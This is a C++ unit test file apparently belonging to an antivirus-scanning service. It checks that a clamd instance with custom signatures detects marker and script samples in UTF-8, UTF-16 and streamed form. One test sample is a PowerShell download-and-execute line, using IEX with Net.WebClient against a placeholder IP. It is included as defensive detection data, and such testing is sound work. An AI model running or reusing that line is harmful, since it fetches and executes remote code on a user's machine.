// Detections by a real clamd (started by the clamd fixture, see
// tools/clamd.sh) with the signatures of tools/clamd-rules/: an .ndb hex signature
// of a marker, an .ldb logical signature written for the ASCII form of a
// script, and a YARA rule with "ascii wide nocase" strings.
#include "service/engine/clamd_client.h"
#include "service/engine/clamd_engine.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <string>
#include <vector>

namespace {

using Bytes = std::vector<BYTE>;

const char* const MarkerName = "Kestrov.Test.Marker.UNOFFICIAL";
const char* const DropperName = "Kestrov.Test.Dropper.UNOFFICIAL";
const char* const DownloaderName = "YARA.Kestrov_PS_Downloader.UNOFFICIAL";

const std::string Marker = "KESTROV-TEST-MARKER-5E2B9C";
const std::string DropperScript =
    "$k = Get-Content .\\k.txt\r\nInvoke-KestrovDropper -EncodedPayload $k\r\n";
const std::string DownloaderScript =
    "$u = 'http://198.51.100.7/a.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n";
const std::string CleanScript =
    "Get-ChildItem -Path C:\\Temp | Where-Object { $_.Length -gt 0 } | Select-Object Name\r\n";

Bytes Of(const std::string& text) { return Bytes(text.begin(), text.end()); }

// As the provider sends a script: UTF-16LE, optionally with a byte order mark.
Bytes Utf16(const std::string& ascii, bool byteOrderMark = false) {
  Bytes bytes;
  if (byteOrderMark) bytes = {0xFF, 0xFE};
  for (const char c : ascii) {
    bytes.push_back(static_cast<BYTE>(c));
    bytes.push_back(0);
  }
  return bytes;
}

std::string Lower(std::string text) {
  for (char& c : text) c = static_cast<char>(tolower(static_cast<unsigned char>(c)));
  return text;
}

// Binary filler that no signature matches.
Bytes Binary(size_t count) {
  Bytes bytes(count);
  for (size_t i = 0; i < count; ++i) bytes[i] = static_cast<BYTE>((i * 97 + (i >> 9)) & 0xFF);
  return bytes;
}

Bytes Join(Bytes a, const Bytes& b) {
  a.insert(a.end(), b.begin(), b.end());
  return a;
}

bool ClamdAddressOfFixture(ClamdAddress* address, std::string* error) {
  FILE* file = fopen(KESTROV_CLAMD_PORT_FILE, "r");
  if (file == nullptr) {
    *error = std::string("no clamd: ") + KESTROV_CLAMD_PORT_FILE +
             " is missing (the clamd_start fixture did not run or failed)";
    return false;
  }
  char port[16] = {};
  const bool read = fgets(port, sizeof port, file) != nullptr;
  fclose(file);
  if (!read) {
    *error = "the port file is empty";
    return false;
  }
  std::string text = port;
  while (!text.empty() && (text.back() == '\n' || text.back() == '\r')) text.pop_back();
  return ParseClamdAddress("127.0.0.1:" + text, false, address, error);
}

// Detection scans are not about time: a generous deadline for a busy machine.
constexpr DWORD ScanTimeoutMs = 30000;

ClamdResult Scan(const ClamdAddress& address, const Bytes& content, size_t piece,
                 ClamdTextMode mode) {
  ClamdScan scan;
  scan.Begin(address, GetTickCount64() + ScanTimeoutMs, mode, content.size());
  for (size_t at = 0; at < content.size(); at += piece) {
    scan.Feed(content.data() + at, content.size() - at < piece ? content.size() - at : piece);
  }
  return scan.Finish();
}

struct DetectionCase {
  const char* name;
  Bytes content;
  ClamdTextMode mode;
  ClamdOutcome outcome;
  const char* signature;
};

void PrintTo(const DetectionCase& c, std::ostream* out) { *out << c.name; }

class ClamdDetectionTest : public testing::TestWithParam<DetectionCase> {
 protected:
  void SetUp() override {
    std::string error;
    ASSERT_TRUE(ClamdAddressOfFixture(&address_, &error)) << error;
  }
  ClamdAddress address_;
};

TEST_P(ClamdDetectionTest, GivesTheExpectedVerdict) {
  const DetectionCase& c = GetParam();
  // Pieces of 7 bytes: code units and the rule's sample are cut everywhere.
  const ClamdResult result = Scan(address_, c.content, 7, c.mode);
  EXPECT_EQ(result.outcome, c.outcome) << result.text;
  EXPECT_EQ(result.text, c.signature);
}

constexpr ClamdTextMode Utf8 = ClamdTextMode::Utf8;
constexpr ClamdTextMode Raw = ClamdTextMode::Raw;
constexpr ClamdOutcome Found = ClamdOutcome::Found;
constexpr ClamdOutcome Clean = ClamdOutcome::Clean;

INSTANTIATE_TEST_SUITE_P(
    Cases, ClamdDetectionTest,
    testing::Values(
        // The .ndb hex signature, in binary content.
        DetectionCase{"NdbMarkerInBinary", Join(Join(Binary(5000), Of(Marker)), Binary(3000)),
                      Utf8, Found, MarkerName},
        // The .ldb written for the ASCII form: a UTF-16LE script matches only
        // once it is sent as UTF-8.
        DetectionCase{"LdbOnAsciiScript", Of(DropperScript), Raw, Found, DropperName},
        DetectionCase{"LdbOnUtf16ScriptSentAsUtf8", Utf16(DropperScript), Utf8, Found,
                      DropperName},
        DetectionCase{"LdbOnUtf16ScriptWithByteOrderMark", Utf16(DropperScript, true), Utf8,
                      Found, DropperName},
        DetectionCase{"LdbMissesUtf16ScriptSentRaw", Utf16(DropperScript), Raw, Clean, ""},
        // The YARA rule's "ascii wide nocase" strings match either form.
        DetectionCase{"YaraOnUtf16ScriptSentAsUtf8", Utf16(DownloaderScript), Utf8, Found,
                      DownloaderName},
        DetectionCase{"YaraOnUtf16ScriptSentRaw", Utf16(DownloaderScript), Raw, Found,
                      DownloaderName},
        DetectionCase{"YaraOnAsciiScript", Of(DownloaderScript), Utf8, Found, DownloaderName},
        DetectionCase{"YaraIgnoresCase", Utf16(Lower(DownloaderScript)), Utf8, Found,
                      DownloaderName},
        DetectionCase{"CleanUtf16Script", Utf16(CleanScript), Utf8, Clean, ""},
        DetectionCase{"CleanBinary", Binary(20000), Utf8, Clean, ""},
        DetectionCase{"HalfOfTheYaraRuleIsClean", Utf16("IEX $x; Net.WebClient"), Utf8, Clean,
                      ""}),
    [](const testing::TestParamInfo<DetectionCase>& info) { return std::string(info.param.name); });

class ClamdStreamTest : public ClamdDetectionTest {};

TEST_F(ClamdStreamTest, Streams8MiBIn64KiBPieces) {
  // The marker at the very end: found only if all of the content arrived.
  const Bytes content = Join(Binary((8u << 20) - Marker.size()), Of(Marker));
  ASSERT_EQ(content.size(), 8u << 20);
  const ClamdResult result = Scan(address_, content, 64 * 1024, Utf8);
  EXPECT_EQ(result.outcome, Found) << result.text;
  EXPECT_EQ(result.text, MarkerName);
}

TEST_F(ClamdStreamTest, Streams8MiBOfUtf16ScriptAsUtf8) {
  std::string script;
  while (script.size() < (4u << 20) - DownloaderScript.size()) {
    script += "Write-Output 'line " + std::to_string(script.size()) + "'\r\n";
  }
  const Bytes content = Utf16(script + DownloaderScript);
  const ClamdResult result = Scan(address_, content, 64 * 1024, Utf8);
  EXPECT_EQ(result.outcome, Found) << result.text;
  EXPECT_EQ(result.text, DownloaderName);
}

TEST_F(ClamdStreamTest, ContentAboveTheStreamLimitFailsWithClamdsError) {
  // The fixture's clamd takes streams of up to 10 MiB.
  const ClamdResult result = Scan(address_, Binary(12u << 20), 64 * 1024, Utf8);
  EXPECT_EQ(result.outcome, ClamdOutcome::Failed);
  EXPECT_NE(result.text.find("INSTREAM size limit exceeded"), std::string::npos) << result.text;
}

TEST_F(ClamdStreamTest, TheEngineReportsTheRealSignature) {
  ClamdSettings settings;
  settings.address = address_;
  settings.timeoutMs = ScanTimeoutMs;
  ClamdEngine engine(settings);
  const Bytes content = Utf16(DropperScript);
  ClamdScan scan;
  engine.Begin(&scan, content.size());
  scan.Feed(content.data(), content.size());
  const ClamdResult result = engine.Finish(&scan);
  EXPECT_EQ(result.outcome, Found) << result.text;
  EXPECT_EQ(result.text, DropperName);
  EXPECT_EQ(engine.BackoffRemainingMs(), 0u);
}

}  // namespace
